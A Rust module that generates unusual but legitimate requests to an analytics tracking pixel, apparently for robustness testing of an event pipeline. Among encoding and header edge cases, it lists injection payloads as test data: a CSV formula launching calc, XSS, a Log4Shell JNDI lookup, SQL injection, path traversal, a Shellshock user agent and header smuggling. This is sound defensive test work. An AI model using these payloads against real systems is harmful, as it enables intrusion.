//! Good lines that look wrong: clients send whatever they like, and each of these is still an event.

use super::dice::Dice;
use super::request::{PIXEL, Request};

/// One oddity.
#[derive(Debug, Clone, Copy, Default)]
enum Oddity {
    /// Bytes at the end of the query, as on the wire.
    Query(&'static [u8]),
    /// A user agent.
    UserAgent(&'static [u8]),
    /// A referrer header.
    Referer(&'static [u8]),
    /// `X-Forwarded-For`.
    ForwardedFor(&'static [u8]),
    /// A header besides the others.
    Header(&'static str, &'static str),
    /// The edge's id is missing.
    #[default]
    NoRequestId,
    /// More parameters than anyone needs.
    ManyParameters,
    /// One value of thousands of bytes.
    LongValue,
    /// A user agent of thousands of bytes.
    LongUserAgent,
    /// So many headers that their names are cut, too.
    ManyHeaders,
    /// A list of proxies that has no end.
    ManyProxies,
}

use Oddity::{
    ForwardedFor, Header, LongUserAgent, LongValue, ManyHeaders, ManyParameters, ManyProxies, NoRequestId,
    Query, Referer, UserAgent,
};

/// All oddities, by what they try.
const ODDITIES: &[Oddity] = &[
    // Percent signs that encode nothing, or no text.
    Query(b"&t=100%"),
    Query(b"&t=50%25%2"),
    Query(b"&t=%zz%u0041"),
    Query(b"&t=%FF%FE"),
    Query(b"&t=%C0%AF%E0%80%AF"),       // overlong
    Query(b"&t=%ED%A0%80%ED%B0%80"),    // surrogates
    Query(b"&t=%F0%9F%98"),             // cut inside a character
    Query(b"&t=%EF%BB%BFmark"),         // byte order mark
    Query(b"&t=a%00b"),                 // NUL
    Query(b"&t=a%09b%0Ac%0D%1B%5B31m"), // tab, newline, terminal colour
    Query(b"&t=%E2%80%AEgnp.exe"),      // right-to-left override
    Query(b"&t=caf\xe9"),               // Latin-1, not encoded
    Query("&t=日本".as_bytes()),        // UTF-8, not encoded
    Query(b"&t=a\x00b\x7f"),            // raw control characters
    // Encoded twice or three times.
    Query(b"&u=https%253A%252F%252Fshop.example%252Fp%252F7"),
    Query(b"&t=100%252525"),
    Query(b"&t=a+b%2Bc"),
    Query(b"&t=%e6%9d%b1%e4%BA%ac"), // lower-case digits
    // Parameters.
    Query(b"&t=one&t=two"),
    Query(b"&&&"),
    Query(b"&="),
    Query(b"&=x"),
    Query(b"&novalue"),
    Query(b"&t="),
    Query(b"&v"),
    Query(b"&E=CLICK&S=shop"),
    Query(b"&request_id=1&dt=2020-01-01&p.dt=x&p.=y&p"),
    Query(b"&utm_unknown=1&foo[bar]=2&__proto__=3"),
    Query(b"&u=/p.gif?u=/p.gif?u=x"),
    Query(b"&t=semi;colon|pipe^caret~tilde{brace}"),
    ManyParameters,
    // Numbers.
    Query(b"&v=1e309"),
    Query(b"&v=NaN"),
    Query(b"&v=-0"),
    Query(b"&v=%2B5"),
    Query(b"&v=9223372036854775808"),
    Query(b"&v=12,50"),
    Query(b"&v=0x1F"),
    Query(b"&v=%D9%A1%D9%A2%D9%A3"), // Arabic digits
    Query(b"&ts=soon&st=-1"),
    Query(b"&ts=99999999999999999999"),
    Query(b"&sw=NaN&sh=-5&vw=1e3&vh="),
    // Values outside every list.
    Query(b"&cur=EURO&l=zz-ZZZZ-zz&tz=Mars%2FBase"),
    Query(b"&eid=not-a-uuid&pv=00000000-0000-0000-0000-000000000000"),
    Query(b"&u=javascript%3Aalert(1)"),
    Query(b"&u=https%3A%2F%2F%5B2001%3Adb8%3A%3A1%5D%3A8443%2F%3Fq%3D%23top"),
    Query(b"&u=https%3A%2F%2Fxn--a.example%2F"), // punycode of nothing
    Query(b"&u=https%3A%2F%2F%D0%B0pple.example%2F"), // one Cyrillic letter
    Query(b"&e=%20%20"),
    LongValue,
    // Text that other programs would run.
    Query(b"&t=%3Dcmd%7C'%20%2FC%20calc'!A0"),
    Query(b"&t=%40SUM(1%2C1)"),
    Query(b"&t=%3C%2Fscript%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    Query(b"&t=%24%7Bjndi%3Aldap%3A%2F%2Fa.test%2Fx%7D"),
    Query(b"&t='%20OR%201%3D1%20--"),
    Query(b"&t=%22%2C%22dt%22%3A%22x"),
    Query(b"&t=%5Cu0000%5Cn"),
    Query(b"&s=..%2F..%2Fetc&s2=!%7Bfirehose%3Arandom-string%7D"),
    // Headers.
    NoRequestId,
    NoRequestId,
    UserAgent(b""),
    UserAgent(b"Caf\xe9Browser/1.0 \"quoted\" 100%"),
    UserAgent(b"() { :; }; /bin/true"),
    LongUserAgent,
    Referer(b"about:blank"),
    Referer("https://bücher.example/straße?q=100%".as_bytes()),
    Referer(b"-"),
    ForwardedFor(b"unknown, ::ffff:192.0.2.1"),
    ForwardedFor(b"010.0.0.1,fe80::1%eth0"),
    ManyProxies,
    Header("x-note", "a%0Ahost:forged.example"), // an encoded newline in a value is not a new header
    Header("x-empty-name", ":"),
    ManyHeaders,
];

/// Makes a request to the pixel odd. Its headers are not written yet.
pub(super) fn apply(request: &mut Request, dice: &mut Dice) {
    request.path = PIXEL;
    match dice.choice(ODDITIES) {
        Query(bytes) => request.query.raw(bytes),
        UserAgent(bytes) => replace(&mut request.user_agent, bytes),
        Referer(bytes) => replace(&mut request.referer, bytes),
        ForwardedFor(bytes) => replace(&mut request.forwarded_for, bytes),
        Header(name, value) => request.extra_headers.push((name, value)),
        NoRequestId => request.id.clear(),
        ManyParameters => {
            for number in 0..dice.between(260, 400) {
                request.query.number("p.x", number);
            }
        }
        LongValue => {
            request.query.raw(b"&t=");
            for _ in 0..dice.between(150, 300) {
                request.query.raw(b"far%20too%20long%20");
            }
        }
        LongUserAgent => {
            for _ in 0..dice.between(100, 200) {
                request.user_agent.extend_from_slice(b" (like Gecko)");
            }
        }
        ManyHeaders => {
            let added = ("x-hop-behind-the-office", "1");
            request.extra_headers.extend(std::iter::repeat_n(added, 60));
        }
        ManyProxies => {
            replace(&mut request.forwarded_for, b"192.0.2.1");
            for _ in 0..dice.between(50, 120) {
                request.forwarded_for.extend_from_slice(b", 198.51.100.9");
            }
        }
    }
}

fn replace(field: &mut Vec<u8>, bytes: &[u8]) {
    field.clear();
    field.extend_from_slice(bytes);
}
